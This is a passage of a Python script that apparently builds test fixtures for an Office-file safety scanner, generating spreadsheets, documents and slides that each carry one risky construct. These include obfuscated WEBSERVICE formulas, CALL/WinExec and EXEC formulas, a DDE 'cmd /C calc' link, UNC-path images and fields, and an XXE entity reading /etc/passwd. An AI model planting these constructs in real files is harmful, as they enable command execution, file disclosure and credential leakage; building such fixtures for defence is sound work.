    yield "fetching_formula--spelling.xlsx", archive(excel("<f>_xlfn._xlws.webService&#10;(A1)</f>"))
    yield "fetching_formula--pieces.xlsx", archive(excel("<f>WEB<!-- x -->SER<![CDATA[VICE(]]>A1)</f>"))
    yield "fetching_formula--handed-on.xlsx", archive(excel("<f>MAP(A1:A3,_xleta.WEBSERVICE)</f>"))
    yield "fetching_formula--array.xlsx", archive(excel(f'<f t="array" ref="A1:A2">{fetch}</f>'))
    yield "fetching_formula--shared.xlsx", archive(excel(f'<f t="shared" si="0" ref="A1:A2">{fetch}</f>'))
    yield "fetching_formula--name.xlsx", archive(excel(workbook=f'<definedNames><definedName name="x" hidden="1">{fetch}</definedName></definedNames>'))
    for what, element in (
        ("condition", "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>"),
        ("validation", "<dataValidations><dataValidation><formula1>{}</formula1></dataValidation></dataValidations>"),
        ("newer-condition", '<extLst><x14:cfRule xmlns:x14="urn:x14" xmlns:xm="urn:xm"><xm:f>{}</xm:f></x14:cfRule></extLst>'),
        ("threshold", "<cfRule><cfvo type='formula' val='{}'/></cfRule>"),
        ("table", "<tableColumn><calculatedColumnFormula>{}</calculatedColumnFormula></tableColumn>"),
        ("pivot", "<cacheField name='x' formula='{}'/>"),
    ):
        inside = element.format(fetch.replace('"', "&quot;"))
        yield f"fetching_formula--{what}.xlsx", archive(excel(parts={"xl/worksheets/sheet2.xml": f'<worksheet xmlns="{S}">{inside}</worksheet>'.encode()}))
    yield "fetching_formula--chart.pptx", archive(powerpoint(parts={
        "ppt/charts/chart1.xml": f'<c:chart xmlns:c="urn:c"><c:f>{fetch}</c:f></c:chart>'.encode()}))
    yield "fetching_formula--stocks.xlsx", archive(excel('<f>_xlfn.STOCKHISTORY("MSFT",TODAY())</f>'))
    yield "fetching_formula--real-time.xlsx", archive(excel('<f>RTD("vendor.feed",,"price")</f>'))
    yield "program_formula--real-time-server.xlsx", archive(excel('<f>RTD("vendor.feed","server","price")</f>'))
    yield "program_formula--call.xlsx", archive(excel('<f>CALL("Kernel32","WinExec","JCJ","calc",0)</f>'))
    yield "program_formula--register.xlsx", archive(excel('<f>Register.ID ("\\\\server\\a.dll","f")</f>'))
    yield "program_formula--name.xlsx", archive(excel(workbook='<definedNames><definedName name="x">EXEC("calc")</definedName></definedNames>'))
    yield "dde_formula--function.xlsx", archive(excel('<f>DDE("soffice","a.ods","A1")</f>'))
    yield "dde_formula--attribute.xlsx", archive(excel(parts={"xl/worksheets/sheet2.xml": b"<a><oleObject link=\"cmd|'/C calc'!A0\"/></a>"}))
    yield "external_image--formula.xlsx", archive(excel('<f>_xlfn.IMAGE("https://example.com/a.png")</f>'))
    yield "unc_path--formula.xlsx", archive(excel('<f>_xlfn.IMAGE("\\\\server\\a.png")</f>'))
    for what, target in (("server", '"\\\\server\\share"'), ("file", '"file:///C:/a.exe"'), ("joined", '"\\\\"&amp;"server\\"&amp;A1'),
                         ("characters", 'CHAR(92)&amp;CHAR(92)&amp;"server"'), ("function", 'IF(A1,"\\\\server\\a","")'),
                         ("brackets", '"[\\\\server\\a.xlsx]Sheet1!A1"')):
        yield f"unusual_hyperlink--formula-{what}.xlsx", archive(excel(f'<f>HYPERLINK({target},"x")</f>'))


def programs_around():
    """What a file brings for the program that opens it: web extensions, ribbons, macros of shapes and fields."""
    pane = "http://schemas.microsoft.com/office/2011/relationships/webextension"

    def extension(reference, visible):
        panes = f'<wetp:taskpanes xmlns:wetp="urn:wetp"><wetp:taskpane visibility="{visible}"/></wetp:taskpanes>'
        web = f'<we:webextension xmlns:we="urn:we" id="x"><we:reference id="x" version="1.0" {reference}/></we:webextension>'
        files = word(parts={
            "word/webextensions/taskpanes.xml": panes.encode(), "word/webextensions/webextension1.xml": web.encode(),
            "word/webextensions/_rels/taskpanes.xml.rels": rels((pane, "webextension1.xml"))})
        files[1] = ("_rels/.rels", rels(("officeDocument", "word/document.xml"), (pane + "taskpanes", "word/webextensions/taskpanes.xml")))
        return archive(files)

    yield "web_extension--shop.docx", extension('store="en-US" storeType="OMEX"', 0)
    yield "web_extension--shown.docx", extension('store="en-US" storeType="OMEX"', 1)
    yield "unc_path--web-extension.docx", extension('store="//server/share" storeType="Filesystem"', 1)
    yield "unc_path--web-extension-backslashes.docx", extension('store="\\\\server\\share" storeType="FileSystem"', 0)
    office = "http://schemas.microsoft.com/office/2006/relationships/ui/"
    for what, kind, target, ribbon, code in (
        ("tab", "extensibility", "customUI/customUI.xml", '<tab idMso="TabHome" visible="false"/>', "custom_ribbon"),
        ("button", "extensibility", "customUI/customUI14.xml", '<button id="x" onAction="X"/>', "action_macro"),
        ("load", "extensibility", "customUI/a.xml", '<button id="x" getVisible="X"/>', "action_macro"),
        ("toolbar", "userCustomization", "userCustomization/customUI.xml", '<control idQ="x" onAction="X"/>', "action_macro"),
    ):
        files = excel(parts={target: f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui">{ribbon}</customUI>'.encode()})
        files[1] = ("_rels/.rels", rels(("officeDocument", "xl/workbook.xml"), (office + kind, target)))
        yield f"{code}--ribbon-{what}.xlsx", archive(files)
    shape = '<xdr:wsDr xmlns:xdr="urn:xdr"><xdr:sp macro="%s" textlink=""/></xdr:wsDr>'
    yield "macro_button--shape.xlsx", archive(excel(parts={"xl/drawings/drawing1.xml": (shape % "[0]!X").encode()}))
    yield "action_macro--shape-elsewhere.xlsx", archive(excel(parts={"xl/drawings/drawing1.xml": (shape % "[1]!X").encode()}))
    vml = '<xml xmlns:v="urn:v" xmlns:x="urn:x"><v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!X</x:FmlaMacro></x:ClientData></v:shape></xml>'
    yield "macro_button--button.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": vml.encode()}))
    yield "action_macro--button-elsewhere.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": vml.replace("[0]", "[1]").encode()}))
    yield "macro_button--form-field.docx", archive(word('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="X"/></w:ffData></w:fldChar></w:r>'))
    yield "macro_button--field.docx", archive(word('<w:fldSimple w:instr=" MACROBUTTON AllCaps [x]"/>'))
    video = '<wp15:webVideoPr xmlns:wp15="urn:wp15" embeddedHtml="&lt;iframe src=&quot;https://example.com&quot;/&gt;"/>'
    yield "external_link--web-video.docx", archive(word(video))


def fields_elsewhere():
    """Fields to the web and to file servers: the same verdict as a relationship to that place."""
    for code, what, instruction in (
        ("external_object", "link", 'LINK Word.Document "http://example.com/a.docx"'),
        ("external_object", "link-server", 'LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx" "Sheet1!A1" \\a'),
        ("external_object", "link-scheme", 'LINK htmlfile "mhtml:http://example.com/a!x"'),
        ("unc_path", "picture", 'INCLUDEPICTURE "\\\\\\\\server\\\\a.png" \\d'),
        ("unc_path", "picture-single", 'INCLUDEPICTURE \\\\server\\a.png'),
        ("unc_path", "picture-slashes", 'INCLUDEPICTURE "//server/a.png"'),
        ("unc_path", "text", 'INCLUDETEXT "file://server/a.docx"'),
        ("unc_path", "database", 'DATABASE \\d "\\\\\\\\server\\\\a.mdb" \\s "SELECT 1"'),
        ("external_image", "picture", 'INCLUDEPICTURE "https://example.com/a.png" \\* MERGEFORMATINET'),
        ("pulling_field", "range", 'LINK Excel.Sheet.12 "C:\\\\a.xlsx" A1:B2'),
    ):
        instruction = instruction.replace("&", "&amp;").replace('"', "&quot;")
        yield f"{code}--field-{what}.docx", archive(word(f'<w:fldSimple w:instr=" {instruction} "/>'))
    shape = '<xml xmlns:v="urn:v" xmlns:o="urn:o">%s</xml>'
    for code, what, element in (
        ("unc_path", "fill", '<v:fill o:href="file://server/a.png"/>'), ("unc_path", "stroke", '<v:stroke src="//server/a.png"/>'),
        ("unusual_hyperlink", "shape", '<v:rect href="\\\\server\\a.docx"/>'),
    ):
        yield f"{code}--vml-{what}.docx", archive(word(parts={"word/header1.xml": (shape % element).encode()}))
    schema = '<w:settings xmlns:w="urn:w"><sl:schema xmlns:sl="urn:sl" sl:manifestLocation="\\\\server\\a.xml"/></w:settings>'
    yield "unc_path--expansion-pack.docx", archive(word(parts={"word/settings.xml": schema.encode()}))


def foreign_declarations():
    svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"%s><svg xmlns="http://www.w3.org/2000/svg"/>'
    picture = {"links": [("image", "media/image1.svg")], "defaults": [("svg", "image/svg+xml")]}

    def drawn(subset=""):
        return archive(word(parts={"word/media/image1.svg": (svg % subset).encode()}, **picture))

    yield "foreign_doctype--picture.docx", drawn()
    yield "foreign_doctype--plain-entity.docx", drawn('[<!ENTITY ns "http://www.w3.org/2000/svg">]')
    yield "foreign_doctype--leftover.docx", archive(word(parts={"META-INF/a.plist": svg.replace("%s", "").encode()}))
    yield "strict/foreign_doctype--picture.docx", drawn()
    yield "xml_doctype--picture-that-expands.docx", drawn('[<!ENTITY a "x"><!ENTITY b "&a;&a;">]')
    yield "xml_doctype--picture-that-fetches.docx", drawn('[<!ENTITY a SYSTEM "file:///etc/passwd">]')
    yield "xml_doctype--picture-of-another-place.docx", archive(word(
        parts={"word/media/image1.svg": b'<!DOCTYPE svg SYSTEM "http://example.com/a.dtd"><svg/>'}, **picture))
    yield "xml_doctype--header-called-picture.docx", archive(word(
        links=[("image", "media/image1.svg"), ("header", "media/image1.svg")], defaults=picture["defaults"],
        parts={"word/media/image1.svg": (svg % "").encode()}))


def ill_formed():
    """One sin against XML in each, in the main part of a document; then the same kind in parts of other kinds."""
    sins = {
        "control-character": "<w:t>\x02</w:t>",
        "forbidden-character": "<w:t>\uffff</w:t>",
        "number-of-a-forbidden-character": "<w:t>&#xB;</w:t>",
        "number-of-half-a-character": "<w:t>&#xD800;</w:t>",
        "number-without-digits": "<w:t>&#;</w:t>",
        "ampersand": "<w:t>R & D</w:t>",
        "entity-of-html": "<w:t>&nbsp;</w:t>",
        "reference-without-end": "<w:t>&amp</w:t>",
        "end-of-cdata": "<w:t>]]></w:t>",
        "cdata-in-lower-case": "<w:t><![cdata[x]]></w:t>",
        "hyphens-in-comment": "<!-- a -- b -->",
        "comment-ends-with-three-hyphens": "<!-- a --->",
        "comment-without-end": "<!-- a",
        "instruction-called-xml": '<?xml version="1.0"?>',
        "instruction-called-xml-in-capitals": "<?XML a?>",
        "instruction-without-name": "<? a?>",
        "declaration-of-an-entity": '<!ENTITY a "b">',
        "attribute-twice": '<w:r w:rsidR="1" w:rsidR="1"/>',
        "attribute-twice-by-namespace": f'<w:r xmlns:v="{W}" w:rsidR="1" v:rsidR="1"/>',
        "attribute-without-quotes": "<w:r w:rsidR=1/>",
        "attribute-without-value": "<w:r w:rsidR/>",
        "attributes-without-space": '<w:r w:rsidR="1"w:rsidP="1"/>',
        "tag-in-attribute": '<w:r w:rsidR="<"/>',
        "ampersand-in-attribute": '<w:r w:rsidR="R&D"/>',
        "control-character-in-attribute": '<w:r w:rsidR="\x1f"/>',
        "prefix-of-element": "<v:shape/>",
        "prefix-of-attribute": '<w:r r:id="rId1"/>',
        "prefix-after-its-element": '<w:r xmlns:v="urn:v"/><v:shape/>',
        "prefix-without-namespace": '<w:r xmlns:v=""/>',
        "prefix-xml": '<w:r xmlns:xml="urn:x"/>',
        "prefix-xmlns": '<w:r xmlns:xmlns="urn:x"/>',
        "namespace-of-xml": '<w:r xmlns:v="http://www.w3.org/XML/1998/namespace"/>',
        "two-colons": "<w:r:t/>",
        "name-begins-with-digit": "<w:1/>",
        "name-of-two-planes": "<w:\U00010000/>",
        "space-before-name": "< w:r/>",
        "space-before-end": "<w:r/ >",
        "other-end-tag": "<w:r></w:t>",
        "crossed-tags": "<w:r><w:t></w:r></w:t>",
    }
    for name, sin in sins.items():
        yield f"xml_malformed--{name}.docx", archive(word(sin))
    document = body().split(b"\n", 1)[1]
    around = {
        "nothing-at-all": b"",
        "no-element": HEAD,
        "text-before": b"x" + document,
        "text-behind": document + b"x",
        "reference-behind": document + b"&#32;",
        "cdata-behind": document + b"<![CDATA[ ]]>",
        "space-before-declaration": b" " + HEAD + document,
        "two-declarations": HEAD + HEAD + document,
        "declaration-without-version": b'<?xml encoding="UTF-8"?>' + document,
        "declaration-of-another-version": b'<?xml version="2.0"?>' + document,
        "declaration-in-another-order": b'<?xml version="1.0" standalone="yes" encoding="UTF-8"?>' + document,
        "declaration-with-more": b'<?xml version="1.0" encoding="UTF-8" type="a"?>' + document,
        "neither-yes-nor-no": b'<?xml version="1.0" standalone="true"?>' + document,
        "declared-utf16": b'<?xml version="1.0" encoding="UTF-16"?>' + document,
        "declared-utf8": (HEAD + document).decode().encode("utf-16"),
        "declared-ascii": b'<?xml version="1.0" encoding="us-ascii"?>' + body("<w:t>\xe4</w:t>").split(b"\n", 1)[1],
        "two-marks": b"\xef\xbb\xbf" * 2 + document,
    }
    for name, content in around.items():
        yield f"xml_malformed--{name}.docx", archive(word(content))
    yield "xml_encoding--archive.docx", archive(word(parts={"customXml/item1.xml": archive(word())}))
    styles = [("/word/styles.xml", OOXML + "wordprocessingml.styles+xml")]
    yield "xml_malformed--styles.docx", archive(word(parts={"word/styles.xml": b"<w:styles/>"}, overrides=styles))
    yield "xml_malformed--cell.xlsx", archive(excel("<v>1 & 2</v>"))
    yield "xml_malformed--end-of-cell.xlsx", archive(excel("<v>1]]></v>"))
    yield "xml_malformed--attribute-of-cell.xlsx", archive(excel('<v>1</v></c><c r="A2" r="A2"><v>1</v>'))
    yield "xml_malformed--slide.pptx", archive(powerpoint("<a:t>\x0b</a:t>"))
    core = ("docProps/core.xml", b"<cp:coreProperties/>")
    yield "xml_malformed--relationship-twice.docx", archive(word(parts={"word/_rels/a.xml.rels": rels(("image", "a")).replace(b" Id=", b' Id="a" Id=')}))
    yield "xml_malformed--types.docx", archive([("[Content_Types].xml", word()[0][1] + b"<!-- -- -->"), *word()[1:]])
    yield "strict/xml_malformed--properties.docx", archive([*word(), core])
    yield "strict/xml_malformed--embedded.pptx", archive(powerpoint(parts={"ppt/embeddings/a.xlsx": archive(excel("<v>&</v>"))}))


def main():
    folder = Path(sys.argv[1])
    (folder / "strict").mkdir(parents=True, exist_ok=True)
    for group in (containers, headers, budgets, markup, packages, programs, links, fields_and_formulas, on_request,
                  formulas_everywhere, programs_around, fields_elsewhere, foreign_declarations, ill_formed):
        for name, data in group():
            (folder / name).write_bytes(data)


if __name__ == "__main__":
    main()
